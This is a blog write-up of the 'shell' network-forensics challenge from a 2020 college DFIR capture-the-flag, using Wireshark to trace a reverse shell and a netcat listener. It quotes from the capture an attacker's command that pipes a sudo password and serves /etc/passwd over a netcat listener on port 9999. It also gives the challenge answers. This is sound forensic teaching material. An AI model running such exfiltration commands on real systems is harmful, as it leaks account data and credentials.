DFA/CCSC Spring 2020 CTF – Wireshark – shell.pcapng Write-up

In May 2020 the Champlain College Digital Forensics Association, in collaboration with the Champlain Cyber Security Club, released their Spring 2020 DFIR CTF including Windows, MacOS, and Apple iOS images, as well as network traffic analysis, OSINT, and reversing challenges. This series of write-ups covers the network forensics section. As the questions were split over multiple PCAP files (shell, smb, dhcp, network, dns, andhttps), I have decided to split my write-ups by PCAP for ease of reading.

This write-up covers the questions relating to the shell PCAP file.

MD5: 0a8bad815f3207285628cae0432bb76d
SHA1: 760696c53e3a5fb9c4467096feb32095c604a227

01 – A second listener (50 points)

What is the port for the second shell?

Opening up the PCAP we can see the first packet contains the beginning of a connection to a remote host listening on TCP port4444, which is the default port for many Metasploit shell payloads. Examining the TCP Stream (Stream #0) we can follow theexchange more easily, showing thecommands that were issued.

The TCP stream shows that netcat was installed via the APT package management system, then netcat was used to listen on port 9999:

jtomato@ns01:~$ echo "*umR@Q%4V&RC" | sudo -S nc -nvlp 9999 < /etc/passwd

Based on the netcat command and its associated output we can see that the /etc/passwd file was exfiltrated from the host, but for now, all we need is the port number for the netcat shell.


02 – Listening (50 points)

What port is the reverse shell listening on?This was the connection initiated in the first packet in the capture, using the distinctive port 4444.


03 – Exif (75 points)

What file is added to the second shell?

Again, based on our work answering Question 1, we already have the answer to this: /etc/passwd


04 – How recent (75 points)

What version of netcat is installed?Once more TCP Stream #0 contains the answer to this question.

The output from the APT package manager gives us the version of the netcat package that was installed.


05 – A very secure authication method (100 points)What password is used to elevate the shell?

Following the TCP Stream we can see that a password was echo’d into the shell and piped to the sudo command, elevating privileges when updating the APT database.


06 – What version pt. 2 (100 points)

What is the OS version name of the target system?

Again, the output from the APT update command gives us our answer: Ubuntu 18.04 LTS, codenamed Bionic Beaver.


07 – Who is using me (150 points)

How many users are on the target system?

This question required a little bit more work. The /etc/passwd file contains details of the user accounts on the host; before we can count them we need to extract a copy of the file. We know that the file was exfiltrated using a netcat listener on TCP port 9999. Filtering thistraffic and following the associated TCP Stream (Stream #6), we can see the /etc/passwd file.

tcp.port == 9999

After saving theraw content of the TCP Stream to a text file we can use the Bash wc utility to count the number of lines, or we could just count them directly in the Wireshark window.

wc -l passwd



6 thoughts on “DFA/CCSCSpring 2020 CTF – Wireshark –shell.pcapng Write-up

Leave a Reply

Your email address will not be published.Required fields are marked *